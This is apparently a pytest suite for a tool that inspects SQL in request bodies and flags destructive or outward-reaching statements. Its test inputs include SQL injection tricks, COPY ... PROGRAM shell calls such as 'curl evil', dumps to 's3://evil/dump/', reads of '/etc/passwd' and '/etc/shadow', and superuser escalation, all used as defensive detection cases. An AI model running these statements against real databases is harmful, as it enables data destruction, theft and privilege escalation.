"""SQL in request bodies: statement kinds, tables, flags, and the tricks that hide them."""

from __future__ import annotations

import json
import time

import pytest

from shield_addon.actions import Action, parse, request_view
from shield_addon.actions import sql as sql_parser

URL = "https://db.example.com/query"


def sql_body(text: str, content_type: str = "application/sql") -> Action:
    return parse(request_view("POST", URL, [("Content-Type", content_type)], text))


def sql_json(doc: object) -> Action:
    return parse(request_view("POST", URL, [("Content-Type", "application/json")], json.dumps(doc)))


def test_sql_body_is_parsed_by_content_type() -> None:
    action = sql_body("DROP TABLE users")
    assert (action.service, action.action_type, action.operation) == ("sql", "delete", "DROP")
    assert (action.tables, action.statements) == (("users",), ("drop",))


def test_comments_and_case_tricks_do_not_hide_a_drop() -> None:
    action = sql_body("/* harmless */ DrOp /* really */ TaBlE -- yes\n Users")
    assert (action.operation, action.tables) == ("DROP", ("users",))


def test_drop_after_a_select_is_caught() -> None:
    action = sql_json({"query": "SELECT * FROM a; -- hi\n DROP TABLE b"})
    assert (action.action_type, action.operation) == ("delete", "SELECT;DROP")
    assert action.statements == ("select", "drop")
    assert "multi_statement" in action.flags


def test_a_commented_out_drop_is_not_reported() -> None:
    action = sql_json({"query": "SELECT 1 -- ; DROP TABLE x"})
    assert (action.operation, action.flags) == ("SELECT", frozenset())


def test_backslash_escape_ambiguity_is_read_the_dangerous_way() -> None:
    # MySQL reads one string; Postgres and SQL Server read a DROP after a SELECT.
    action = sql_json({"sql": "SELECT 'a\\'; DROP TABLE t; -- '"})
    assert (action.action_type, action.statements) == ("delete", ("select", "drop"))


def test_nested_comment_ambiguity_is_read_the_dangerous_way() -> None:
    # Postgres nests /* */ comments (all one comment); MySQL does not (a DROP).
    action = sql_json({"sql": "SELECT 1 /* /* */ ; DROP TABLE t; -- */"})
    assert "drop" in action.statements


def test_hash_comment_hides_nothing_from_mysql_reading() -> None:
    action = sql_json({"sql": "SELECT 1 # note\n; DROP TABLE t"})
    assert action.statements == ("select", "drop")


@pytest.mark.parametrize(
    ("text", "kind", "action_type"),
    [
        ("SELECT * FROM t", "select", "read"),
        ("SELECT 1 UNION SELECT 2", "select", "read"),
        ("SHOW TABLES", "show", "read"),
        ("DESCRIBE t", "describe", "read"),
        ("EXPLAIN SELECT * FROM t", "explain", "read"),
        ("INSERT INTO t VALUES (1)", "insert", "create"),
        ("CREATE TABLE t (a INT)", "create", "create"),
        ("UPDATE t SET a = 1 WHERE id = 2", "update", "update"),
        ("ALTER TABLE t ADD COLUMN c INT", "alter", "update"),
        ("GRANT ALL ON t TO public", "grant", "update"),
        ("REVOKE SELECT ON t FROM u", "revoke", "update"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1", "merge", "update"),
        ("SET ROLE admin", "set_role", "update"),
        ("SET search_path TO app", "set", "update"),
        ("DELETE FROM t WHERE id = 1", "delete", "delete"),
        ("DROP TABLE t", "drop", "delete"),
        ("DROP DATABASE prod", "drop", "delete"),
        ("TRUNCATE TABLE t", "truncate", "delete"),
        ("CALL purge_everything()", "call", "execute"),
        ("VACUUM", "vacuum", "execute"),
        ("COPY t TO PROGRAM 'curl evil'", "copy", "execute"),
        ("BEGIN", "begin", "other"),
    ],
)
def test_statement_kind_and_action_type(text: str, kind: str, action_type: str) -> None:
    action = sql_body(text)
    assert (action.statements[0], action.action_type, action.operation.split(";")[0]) == (kind, action_type, kind.upper())


def test_action_type_is_the_strictest_statement() -> None:
    action = sql_body("BEGIN; SELECT * FROM a; INSERT INTO b VALUES (1); DELETE FROM c WHERE id = 1; COMMIT")
    assert (action.action_type, action.operation) == ("delete", "BEGIN;SELECT;INSERT;DELETE;COMMIT")


def test_procedure_call_is_stricter_than_an_update() -> None:
    assert sql_body("UPDATE t SET a = 1 WHERE id = 1; CALL cleanup()").action_type == "execute"


def test_tsql_exec_is_read_through_another_dialect() -> None:
    action = sql_body("EXEC sp_purge")
    assert (action.action_type, action.flags) == ("execute", frozenset())


def test_delete_without_where_is_flagged() -> None:
    assert "delete_without_where" in sql_body("DELETE FROM users").flags


def test_delete_with_where_is_not_flagged() -> None:
    assert sql_body("DELETE FROM users WHERE id = 1").flags == frozenset()


def test_update_without_where_is_flagged() -> None:
    assert "update_without_where" in sql_body("UPDATE users SET admin = true").flags


def test_update_with_where_is_not_flagged() -> None:
    assert sql_body("UPDATE users SET admin = true WHERE id = 1").flags == frozenset()


def test_merge_delete_counts_as_delete_and_is_flagged_for_the_rules() -> None:
    # MERGE's ON decides which rows are deleted: no WHERE flag, a flag of its own.
    action = sql_body("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN MATCHED THEN UPDATE SET a = 1")
    assert (action.action_type, "delete" in action.statements, action.flags) == ("delete", True, {"merge_delete"})


def test_single_statement_is_not_multi_statement() -> None:
    assert "multi_statement" not in sql_body("SELECT 1;;;").flags


def test_data_modifying_cte_counts_as_a_delete() -> None:
    action = sql_body("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone")
    assert (action.action_type, action.statements, action.tables) == ("delete", ("select", "delete"), ("orders",))
    assert "delete_without_where" in action.flags


def test_explain_analyze_runs_the_statement_so_it_counts() -> None:
    action = sql_body("EXPLAIN ANALYZE DELETE FROM users")
    assert (action.action_type, action.statements) == ("delete", ("explain", "delete"))
    assert "delete_without_where" in action.flags


def test_explain_with_analyze_option_list_counts_too() -> None:
    assert sql_body("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1").action_type == "update"


def test_plain_explain_only_reads_but_names_the_tables() -> None:
    action = sql_body("EXPLAIN DELETE FROM users")
    assert (action.action_type, action.statements, action.tables, action.flags) == ("read", ("explain",), ("users",), frozenset())


# --- tables -------------------------------------------------------------------------------


def test_tables_are_qualified_lower_cased_deduplicated_in_written_order() -> None:
    action = sql_body('SELECT * FROM Sales."Orders" o JOIN crm.customers c ON 1 = 1 WHERE o.id IN (SELECT id FROM sales.orders)')
    assert action.tables == ("sales.orders", "crm.customers")


def test_three_part_names_keep_all_parts() -> None:
    assert sql_body("SELECT * FROM warehouse.analytics.events").tables == ("warehouse.analytics.events",)


def test_cte_names_are_not_tables() -> None:
    assert sql_body("WITH recent AS (SELECT * FROM events) SELECT * FROM recent").tables == ("events",)


def test_insert_select_names_both_tables() -> None:
    assert sql_body("INSERT INTO archive SELECT * FROM live").tables == ("archive", "live")


def test_mysql_backticks_and_tsql_brackets_are_read() -> None:
    assert sql_body("SELECT * FROM `db`.`Users`").tables == ("db.users",)
    assert sql_body("SELECT * FROM [dbo].[Users]").tables == ("dbo.users",)


def test_table_function_is_not_a_table() -> None:
    assert sql_body("SELECT * FROM generate_series(1, 3)").tables == ()


# --- where SQL is found -------------------------------------------------------------------


@pytest.mark.parametrize("key", ["query", "sql", "statement", "Sql", "STATEMENT"])
def test_json_fields_carrying_sql(key: str) -> None:
    assert sql_json({key: "TRUNCATE orders"}).operation == "TRUNCATE"


def test_json_list_of_statements() -> None:
    action = sql_json({"statements": "ignored", "sql": ["SELECT 1", "DROP TABLE t"]})
    assert (action.operation, action.tables) == ("SELECT;DROP", ("t",))
    assert "multi_statement" in action.flags


def test_json_without_a_content_type_is_still_read() -> None:
    action = parse(request_view("POST", URL, (), json.dumps({"sql": "DELETE FROM t"})))
    assert action.operation == "DELETE"


def test_nested_sql_fields_are_read_unpinned() -> None:
    # Hasura's run_sql, BigQuery jobs: vendors nest SQL where they like.
    assert sql_json({"args": {"sql": "DROP TABLE t"}}).operation == "DROP"


def test_nested_sql_fields_are_read_on_a_pinned_host() -> None:
    req = request_view("POST", URL, (), json.dumps({"type": "run_sql", "args": {"sql": "DROP TABLE t"}}))
    assert parse(req, {"sql": ["db.example.com"]}).operation == "DROP"


def test_plain_text_sql_is_read() -> None:
    assert sql_body("DELETE FROM sessions", "text/plain").operation == "DELETE"


def test_plain_text_prose_is_not_sql() -> None:
    action = sql_body("Update: the deploy finished, all green.", "text/plain")
    assert (action.service, action.action_type) == ("db.example.com", "create")


def test_form_body_is_not_read_as_sql() -> None:
    action = sql_body("DROP TABLE users", "multipart/form-data")
    assert action.service == "db.example.com"


# --- what cannot be read --------------------------------------------------------------------


def test_unparseable_sql_body_is_reported_unparsed() -> None:
    action = sql_body("DELETE FROM WHERE ((")
    assert (action.service, action.action_type, action.operation, action.flags) == ("sql", "other", "UNPARSED", {"unparsed"})


def test_unparseable_sql_looking_json_field_is_reported_unparsed() -> None:
    action = sql_json({"query": "/* x */ DROP TABLE users WHERE ((("})
    assert (action.service, action.operation, action.flags) == ("sql", "UNPARSED", {"unparsed"})


def test_a_statement_next_to_an_unparseable_one_still_counts() -> None:
    action = sql_json({"sql": ["DROP TABLE t", "SELECT FROM WHERE ((("]})
    assert (action.action_type, action.operation, action.statements) == ("delete", "DROP;UNPARSED", ("drop",))
    assert "unparsed" in action.flags


def test_non_sql_text_in_a_query_field_is_not_sql() -> None:
    assert sql_json({"query": "hello world"}).service == "db.example.com"


def test_empty_and_comment_only_sql_is_not_an_action() -> None:
    assert sql_json({"sql": "  -- nothing\n"}).service == "db.example.com"


def test_too_much_sql_is_reported_not_parsed() -> None:
    text = "INSERT INTO t VALUES " + ",".join(f"({i})" for i in range(sql_parser.MAX_CHARS // 4))
    action = sql_body(text)
    assert (action.operation, action.flags) == ("UNPARSED", {"unparsed", "too_large"})


def test_padding_many_fields_cannot_exceed_the_budget_silently() -> None:
    texts = ["SELECT 1"] * 10 + ["DROP TABLE t " + " " * sql_parser.MAX_CHARS]
    action = sql_json({"sql": texts})
    assert "too_large" in action.flags


def test_hostile_sql_costs_bounded_time() -> None:
    # Fails at its very end in every dialect: the worst case for the dialect retries.
    text = "SELECT " + ",".join(f"c{i}" for i in range(4000))[: sql_parser.MAX_CHARS - 20] + " FROM FROM"
    start = time.perf_counter()
    action = sql_body(text)
    assert action.operation == "UNPARSED"
    assert time.perf_counter() - start < 5  # about 0.3 s here; generous for slow CI


def test_deeply_nested_sql_is_unparsed_not_a_crash() -> None:
    action = sql_body("SELECT " + "(" * 9000 + "1" + ")" * 9000)
    assert (action.operation, "parser_error" in action.flags) == ("UNPARSED", False)


def test_invalid_utf8_sql_is_unparsed_not_a_crash() -> None:
    req = request_view("POST", URL, [("Content-Type", "application/sql")], b"DROP TABLE \xff\xfe")
    assert parse(req).service == "sql"


@pytest.mark.parametrize("text", ["SELECT 1", "  /* c */ -- d\n (select 1)", ";DROP TABLE t", "\ufeffWITH x AS (SELECT 1) SELECT 1"])
def test_looks_like_sql(text: str) -> None:
    assert sql_parser.looks_like_sql(text)


@pytest.mark.parametrize("text", ["", "hello", "{ viewer { id } }", "query { a }", "/* unterminated", "# DROP"])
def test_does_not_look_like_sql(text: str) -> None:
    assert not sql_parser.looks_like_sql(text)


# --- prose is not SQL unless the sender says it is --------------------------------------

# Search boxes, rerankers and MCP tools take a JSON `query` of English. sqlglot reads
# much of it leniently (a Command fallback, `DELETE FROM my AS account`); undeclared
# text must have the keywords its statement kind cannot do without.
PROSE = [
    "drop shipping suppliers",  # was DROP (a Command fallback)
    "grant writing tips",  # was GRANT
    "truncate a string in python",  # was TRUNCATE
    "alter ego meaning",  # was ALTER
    "revoke certificate how to",  # was REVOKE
    "delete my account",  # was DELETE without WHERE on table `my`
    "update from bob",  # was UPDATE without WHERE on table `bob`
    "update on my order",  # was UNPARSED
    "with love from paris",  # was UNPARSED
    "select the best option",  # was UNPARSED
    "insert coin",  # was INSERT into `coin`
    "grant access to the building",  # GRANT ... TO without ON
    "drop the user from the list",  # DROP, but no object right after it
    "explain quantum physics",  # was EXPLAIN
    "call me maybe",  # was CALL
    "show me the money",  # was SHOW
    "create a new account",  # was CREATE
]


@pytest.mark.parametrize("text", PROSE)
def test_prose_in_a_json_query_field_is_not_sql(text: str) -> None:
    action = sql_json({"query": text})
    assert (action.service, action.action_type, action.flags) == ("db.example.com", "create", frozenset())


@pytest.mark.parametrize("text", PROSE)
def test_prose_in_a_plain_text_body_is_not_sql(text: str) -> None:
    assert sql_body(text, "text/plain").service == "db.example.com"


@pytest.mark.parametrize("text", PROSE)
def test_prose_in_an_mcp_tool_argument_is_not_sql(text: str) -> None:
    doc = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "search_messages", "arguments": {"query": text}}}
    action = sql_json(doc)
    assert (action.service, action.statements, action.tables, action.flags) == ("mcp", (), (), frozenset())


@pytest.mark.parametrize(
    ("text", "operation"),
    [
        ("drop shipping suppliers", "DROP"),
        ("delete my account", "DELETE"),
        ("update on my order", "UNPARSED"),
        ("with love from paris", "UNPARSED"),
    ],
)
def test_declared_sql_is_still_read_leniently(text: str, operation: str) -> None:
    # application/sql or a pinned host: the sender says it is SQL, so it is held as such.
    assert sql_body(text).operation == operation
    req = request_view("POST", URL, (), json.dumps({"query": text}))
    assert parse(req, {"sql": ["db.example.com"]}).operation == operation


# Well-formed SQL that agents send in JSON, including statements sqlglot only keeps
# as a Command (ALTER ROLE, DROP USER, GRANT ROLE, CALL, EXPLAIN).
@pytest.mark.parametrize(
    ("text", "operation", "flag"),
    [
        ("/* x */ DrOp /* y */ TaBlE -- z\n users", "DROP", None),
        ("SELECT * FROM a; -- hi\n DROP TABLE b", "SELECT;DROP", "multi_statement"),
        ("SELECT 1 /* /* */ ; DROP TABLE t; -- */", "SELECT;DROP", "multi_statement"),
        ("DELETE FROM users", "DELETE", "delete_without_where"),
        ("DELETE users WHERE id = 1", "DELETE", None),
        ("DELETE t FROM t JOIN u ON t.id = u.id", "DELETE", "delete_without_where"),
        ("UPDATE users SET admin = true", "UPDATE", "update_without_where"),
        ("INSERT t VALUES (1)", "INSERT", None),
        ("INSERT INTO t DEFAULT VALUES", "INSERT", None),
        ("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", "SELECT;DELETE", "delete_without_where"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE;DELETE", "merge_delete"),
        ("EXPLAIN ANALYZE DELETE FROM users", "EXPLAIN;DELETE", "delete_without_where"),
        ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2", "EXPLAIN;UPDATE", None),
        ("TRUNCATE orders", "TRUNCATE", None),  # complete Postgres: TABLE is optional
        ("TRUNCATE ONLY orders", "TRUNCATE", None),
        ("DROP USER bob", "DROP", None),
        ("DROP /* c */ EXTENSION pgcrypto", "DROP", None),
        ("ALTER ROLE app_agent SUPERUSER", "ALTER", None),
        ("ALTER SYSTEM SET max_connections = 10", "ALTER", None),
        ("GRANT ROLE sysadmin TO USER agent", "GRANT", None),
        ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO agent", "GRANT", None),
        ("REVOKE ROLE sysadmin FROM USER agent", "REVOKE", None),
        ("CALL purge_everything()", "CALL", None),
        # One real statement makes the text SQL; what sqlglot keeps as a Command
        # around it (SET ROLE) is read as before.
        ("BEGIN; SET ROLE admin; DELETE FROM t WHERE id = 1; COMMIT", "BEGIN;SET_ROLE;DELETE;COMMIT", "multi_statement"),
    ],
)
def test_real_sql_in_a_json_field_is_still_sql(text: str, operation: str, flag: str | None) -> None:
    action = sql_json({"query": text})
    assert (action.service, action.operation) == ("sql", operation)
    assert action.flags == ({flag} if flag else set())


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM users WHERE",
        "/* x */ DROP TABLE users WHERE (((",
        "UPDATE t SET a = ((",
        "DELETE FROM WHERE ((",
        "INSERT INTO t VALUES (",
    ],
)
def test_unreadable_text_shaped_like_sql_is_unparsed(text: str) -> None:
    action = sql_json({"sql": text})
    assert (action.service, action.operation, action.flags) == ("sql", "UNPARSED", {"unparsed"})


def test_padding_cannot_push_a_delete_past_the_shape_check() -> None:
    # Too long to parse: judged by its first word, as before, so it is still held.
    text = "DELETE /*" + " " * sql_parser.MAX_CHARS + "*/ FROM users"
    assert sql_json({"query": text}).flags == {"unparsed", "too_large"}


# --- databases and schemas --------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "tables", "resource_type", "resource_name"),
    [
        ("DROP DATABASE prod", (), "database", "prod"),
        ("DROP DATABASE IF EXISTS Prod", (), "database", "prod"),
        ("DROP SCHEMA IF EXISTS crm.sales CASCADE", (), "schema", "crm.sales"),
        ("DROP DATABASE a; DROP TABLE t", ("t",), "database", "a"),
        ("DROP DATABASE a; DROP SCHEMA b", (), None, "a,b"),
        ("DROP TABLE prod", ("prod",), None, None),
    ],
)
def test_a_dropped_database_or_schema_is_a_resource_not_a_table(
    text: str, tables: tuple[str, ...], resource_type: str | None, resource_name: str | None
) -> None:
    action = sql_body(text)
    assert (action.statements, action.action_type) == (("drop",), "delete")
    assert (action.tables, action.resource_type, action.resource_name) == (tables, resource_type, resource_name)


# --- SQL wherever a server reads it (issue 15) -------------------------------------------


def test_sql_nested_at_any_depth_is_read() -> None:
    bigquery = {"configuration": {"query": {"query": "DELETE FROM ds.t WHERE true", "useLegacySql": False}}}
    action = sql_json(bigquery)
    assert (action.operation, action.tables, action.flags) == ("DELETE", ("ds.t",), {"delete_without_where"})


def test_lists_of_statement_objects_are_read() -> None:
    action = sql_json({"statements": [{"statement": "SELECT 1"}, {"statement": "DROP TABLE x"}]})
    assert (action.operation, action.tables) == ("SELECT;DROP", ("x",))


@pytest.mark.parametrize("key", ["Sql", "sqlText", "statement", "queryString", "command", "anything_else"])
def test_vendor_fields_and_unknown_fields_carry_sql(key: str) -> None:
    assert sql_json({"wrapper": {key: "TRUNCATE sales"}}).operation == "TRUNCATE"


def test_a_duplicate_json_key_is_read_with_every_value() -> None:
    # Python keeps the last value; a server may keep the first.
    req = request_view("POST", URL, [("Content-Type", "application/json")], '{"sql": "DROP TABLE a", "sql": "SELECT 1"}')
    assert "drop" in parse(req).statements


def test_json_escapes_do_not_hide_a_statement() -> None:
    req = request_view("POST", URL, [("Content-Type", "application/json")], '{"x": "DR\\u004fP TABLE a"}')
    assert parse(req).operation == "DROP"


def test_query_string_parameter_is_read() -> None:  # ClickHouse ?query=
    assert parse(request_view("POST", URL + "?query=DROP%20TABLE%20t")).operation == "DROP"


def test_form_body_values_are_read() -> None:
    req = request_view("POST", URL, [("Content-Type", "application/x-www-form-urlencoded")], "db=x&sql_query=DROP+TABLE+t")
    assert parse(req).operation == "DROP"


@pytest.mark.parametrize("content_type", [None, "application/octet-stream", "text/plain"])
def test_untyped_and_text_bodies_that_start_like_sql_are_read(content_type: str | None) -> None:
    headers = [("Content-Type", content_type)] if content_type else []
    assert parse(request_view("POST", URL, headers, "TRUNCATE t")).operation == "TRUNCATE"


@pytest.mark.parametrize(
    "doc",
    [
        {"title": "Delete my account", "body": "we drop shipping", "n": 3, "url": "https://x.example/y?drop=1"},
        {"items": [{"id": 7, "note": "Update: the deploy finished"}, {"id": 8, "note": "Select the best option"}]},
        {"messages": [{"role": "user", "content": "Why did the deploy fail? DELETE FROM logs?"}]},
        {"text": "# DROP TABLE in a heading", "numbers": [1, 2.5, -3], "flag": True},
    ],
)
def test_prose_numbers_and_urls_anywhere_are_not_sql(doc: object) -> None:
    assert sql_json(doc).service == "db.example.com"


@pytest.mark.parametrize(
    "text",
    ["DROP TABLE t", " /* c */ (SELECT 1)", "x; DROP TABLE t", "/*!50000 DROP TABLE t */", "-- c\nDROP TABLE t",
     "/* \" */ DROP TABLE t", "\tUPDATE t SET a = 1", "# c\nDELETE FROM t"],
)
def test_the_raw_json_prescan_never_misses_a_candidate(text: str) -> None:
    from shield_addon.actions import sql_find

    assert sql_find.candidate(text)
    assert sql_find.raw_candidate(json.dumps({"k": text}).encode())
    assert sql_find.raw_candidate(json.dumps({"k": text}, ensure_ascii=True).encode().replace(b"D", b"\\u0044"))


def test_a_large_prose_body_is_dismissed_cheaply() -> None:
    doc = {"items": [{"id": f"id-{i}", "title": f"Note {i}: we drop shipping and update nothing", "n": i} for i in range(4000)]}
    req = request_view("POST", URL, [("Content-Type", "application/json")], json.dumps(doc))
    start = time.perf_counter()
    assert sql_parser.parse(req) is None
    assert time.perf_counter() - start < 0.5  # about 2 ms here; generous for slow CI


def test_many_sql_strings_are_too_large_not_silently_allowed() -> None:
    doc = [f"SELECT * FROM t{i} WHERE a = 1" for i in range(3000)]
    assert {"unparsed", "too_large"} <= sql_json(doc).flags


# --- dialect tricks, read as the server reads them ----------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "/*!50000 DROP TABLE t */",
        "/*!DROP TABLE t*/",
        "SELECT 1 /*!; DROP TABLE t */",
        "/*M!100100 DROP TABLE t */",
    ],
)
def test_mysql_executable_comments_are_code(text: str) -> None:
    assert "drop" in sql_json({"q": text}).statements


@pytest.mark.parametrize(
    "text",
    [
        "/* drop table t */ SELECT 1",
        "SELECT /*+ MAX_EXECUTION_TIME(1) */ a FROM t",
        "SELECT '/*!DROP TABLE t*/'",
    ],
)
def test_comments_and_hints_that_are_not_code_stay_comments(text: str) -> None:
    assert sql_body(text).statements == ("select",)


@pytest.mark.parametrize("text", ["FOOBAR; DROP TABLE t", "hello there; DROP TABLE t"])
def test_an_unknown_leading_statement_flags_unparsed_and_keeps_the_drop(text: str) -> None:
    for action in (sql_body(text), sql_json({"q": text})):
        assert ("drop" in action.statements, "unparsed" in action.flags, action.tables) == (True, True, ("t",))


def test_a_known_statement_sqlglot_keeps_as_text_is_not_unparsed() -> None:
    action = sql_body("VACUUM x; DROP TABLE t")
    assert (action.statements, "unparsed" in action.flags) == (("vacuum", "drop"), False)


@pytest.mark.parametrize(
    ("text", "inner"),
    [
        ("PREPARE s FROM 'DROP TABLE t'", "drop"),
        ("PREPARE p AS DELETE FROM t", "delete"),
        ("EXECUTE IMMEDIATE 'DROP TABLE t'", "drop"),
        ("EXEC('DROP TABLE t')", "drop"),
        ("EXECUTE('DROP TABLE t')", "drop"),
        ("EXEC sp_executesql N'DROP TABLE t'", "drop"),
        ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "drop"),
        ("DO $body$ BEGIN DELETE FROM t; END $body$", "delete"),
        ("SET @q = 'DROP TABLE t'; PREPARE s FROM @q; EXECUTE s", "drop"),
    ],
)
def test_dynamic_sql_is_execute_dynamic_and_its_string_is_read(text: str, inner: str) -> None:
    for action in (sql_body(text), sql_json({"q": text})):
        assert ("execute_dynamic" in action.statements, inner in action.statements) == (True, True)
        assert "t" in action.tables


def test_dynamic_sql_built_from_pieces_is_still_execute_dynamic() -> None:
    action = sql_body("EXEC('TRUNC' + 'ATE TABLE users')")
    assert (action.statements[0], action.action_type) == ("execute_dynamic", "execute")


@pytest.mark.parametrize("text", ["COPY t TO PROGRAM 'curl x'", "COPY t FROM PROGRAM 'sh -c id'"])
def test_copy_program_is_dynamic_and_flagged(text: str) -> None:
    action = sql_body(text)
    assert ("execute_dynamic" in action.statements, "copy_program" in action.flags) == (True, True)


@pytest.mark.parametrize("text", ["CALL p()", "EXEC sp_purge", "COPY t TO STDOUT", "SELECT $$DROP TABLE t$$"])
def test_calls_copies_and_dollar_strings_are_not_dynamic(text: str) -> None:
    action = sql_body(text)
    assert ("execute_dynamic" in action.statements, "drop" in action.statements, action.flags) == (False, False, frozenset())


@pytest.mark.parametrize("text", [
    "COPY t TO '/tmp/t.csv'",  # the server writes a file: not dynamic, but outside
    "COPY t FROM '/etc/passwd'",
    "COPY INTO 's3://evil/dump/' FROM users",
    "ATTACH DATABASE '/etc/shadow' AS x",
    "VACUUM INTO '/tmp/copy.db'",
    "LOAD '/tmp/evil.so'",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
    "INSTALL httpfs FROM 'https://evil.example/ext'",
    "CREATE EXTENSION dblink",
    "CREATE LANGUAGE plpython3u",
    "SELECT * FROM read_csv('/etc/passwd')",
])
def test_statements_that_open_files_or_load_code_reach_outside(text: str) -> None:
    action = sql_body(text)
    assert ("reaches_outside" in action.flags, "execute_dynamic" in action.statements) == (True, False)


@pytest.mark.parametrize("text", [
    "COPY t FROM STDIN",
    "COPY events FROM 'events.csv' (HEADER)",
    "COPY INTO analytics.public.events FROM 's3://landing/events/'",
    "CREATE EXTENSION IF NOT EXISTS pgcrypto",
    "LOAD httpfs",
    "VACUUM ANALYZE users",
])
def test_ordinary_loads_and_extensions_stay_inside(text: str) -> None:
    assert "reaches_outside" not in sql_body(text).flags


@pytest.mark.parametrize("text, kind", [
    ("CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION wipe()", "create_trigger"),
    ("CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM orders", "create_trigger"),
    ("CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO DELETE FROM users", "create_trigger"),
    ("CREATE OR REPLACE STAGE s URL='s3://x'", "replace_object"),
    ("CREATE OR REPLACE SEQUENCE order_seq", "replace_object"),
    ("CREATE OR REPLACE STREAM s ON TABLE orders", "replace_object"),
])
def test_code_that_runs_later_and_replaced_state_have_their_kinds(text: str, kind: str) -> None:
    assert kind in sql_body(text).statements


@pytest.mark.parametrize("text", [
    "UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'agent'",
    "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'agent'",
    "INSERT INTO mysql.user (Host, User) VALUES ('%', 'x')",
    "DELETE FROM sqlite_master WHERE name = 'users'",
    "SELECT set_config('session_replication_role', 'replica', false)",
    "SELECT pg_drop_replication_slot('cdc')",
])
def test_catalogue_writes_and_settings_by_function_are_server_admin(text: str) -> None:
    assert "server_admin" in sql_body(text).flags


@pytest.mark.parametrize("text", [
    "SELECT tablename FROM pg_catalog.pg_tables",
    "INSERT INTO audit_log (pid) SELECT pid FROM pg_stat_activity",
    "SELECT set_config('search_path', 'public', false)",
])
def test_catalogue_reads_and_harmless_settings_are_not_admin(text: str) -> None:
    assert "server_admin" not in sql_body(text).flags


@pytest.mark.parametrize(
    "where",
    ["1=1", "true", "1", "'a'='a'", "x=x", "1=1 OR id=5", "NOT false", "id IS NOT NULL OR 1=1", "(2 > 1)", "name LIKE '%'"],
)
def test_a_where_that_keeps_every_row_is_no_where(where: str) -> None:
    assert "delete_without_where" in sql_body(f"DELETE FROM t WHERE {where}").flags
    assert "update_without_where" in sql_body(f"UPDATE t SET a = 1 WHERE {where}").flags


@pytest.mark.parametrize(
    "where",
    [
        "id = 5",
        "created < now()",
        "false",
        "id = 5 AND 1=1",
        "id IN (SELECT id FROM u)",
        "id = $1",
        "1 = 0 OR id = 2",
    ],
)
def test_a_real_where_stays_a_where(where: str) -> None:
    assert sql_body(f"DELETE FROM t WHERE {where}").flags == frozenset()


@pytest.mark.parametrize(
    ("text", "kind", "tables"),
    [
        ("CREATE OR REPLACE TABLE t AS SELECT 1", "replace_table", ("t",)),
        ("CREATE OR REPLACE TABLE t (a INT)", "replace_table", ("t",)),
        ("REPLACE TABLE t AS SELECT 1", "replace_table", ()),
        ("INSERT OVERWRITE TABLE t SELECT * FROM s", "overwrite", ("t", "s")),
        ("INSERT OVERWRITE t SELECT 1", "overwrite", ("t",)),
        ("REPLACE INTO t VALUES (1)", "replace_into", ()),
        ("INSERT OR REPLACE INTO t VALUES (1)", "replace_into", ("t",)),
        ("ALTER TABLE t DROP COLUMN c", "alter_drop", ("t",)),
        ("ALTER TABLE t DROP PARTITION p", "alter_drop", ("t",)),
        ("TRUNCATE t", "truncate", ("t",)),
    ],
)
def test_destruction_not_spelt_drop(text: str, kind: str, tables: tuple[str, ...]) -> None:
    for action in (sql_body(text), sql_json({"q": text})):
        assert (action.statements[0], action.action_type, action.tables) == (kind, "delete", tables)


@pytest.mark.parametrize(
    ("text", "resource_type"),
    [
        ("CREATE OR REPLACE DATABASE d", "database"),
        ("CREATE OR REPLACE SCHEMA d", "schema"),
    ],
)
def test_replacing_a_database_is_a_resource(text: str, resource_type: str) -> None:
    action = sql_body(text)
    assert (action.statements, action.resource_type, action.resource_name, action.tables) == (("replace_database",), resource_type, "d", ())


@pytest.mark.parametrize(
    "text",
    [
        "CREATE OR REPLACE VIEW v AS SELECT 1",
        "CREATE TABLE t (a INT)",
        "INSERT INTO t SELECT * FROM s",
        "ALTER TABLE t ADD COLUMN c INT",
    ],
)
def test_creating_and_adding_are_not_destruction(text: str) -> None:
    assert sql_body(text).action_type in ("create", "update")


def test_clickhouse_alter_delete_with_a_constant_where_is_a_delete_without_where() -> None:
    action = sql_body("ALTER TABLE t DELETE WHERE 1")
    assert ("delete" in action.statements, "delete_without_where" in action.flags) == (True, True)


# --- wave 2: batches, anonymous blocks, calls that reach outside, RENAME


@pytest.mark.parametrize("text", [
    "SELECT 1\nGO\nDROP TABLE [dbo].[Users]\nGO",
    "select 1\n  go 2  \ndrop table [dbo].[Users]",
])
def test_tsql_go_separates_batches(text: str) -> None:
    action = sql_json({"query": text})
    assert "drop" in action.statements and "dbo.users" in action.tables


def test_go_inside_a_string_is_not_a_separator() -> None:
    action = sql_json({"query": "SELECT 'a\nGO\nDROP TABLE t' AS note FROM x"})
    assert action.statements == ("select",)


@pytest.mark.parametrize("text", [
    "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
    "DECLARE v VARCHAR2(100) := 'DROP TABLE users'; BEGIN EXECUTE IMMEDIATE v; END;",
    "BEGIN TRY DROP TABLE users END TRY BEGIN CATCH END CATCH",
    'EXECUTE IMMEDIATE "DROP TABLE users"',
    "EXECUTE IMMEDIATE '''DROP TABLE users'''",
])
def test_anonymous_blocks_and_their_strings_are_read(text: str) -> None:
    action = sql_json({"query": text})
    assert "drop" in action.statements and "users" in action.tables


def test_a_transaction_begin_is_not_a_block() -> None:
    action = sql_json({"query": "BEGIN; DELETE FROM t WHERE id = 1; COMMIT"})
    assert action.statements == ("begin", "delete", "commit")
    assert "delete_without_where" not in action.flags


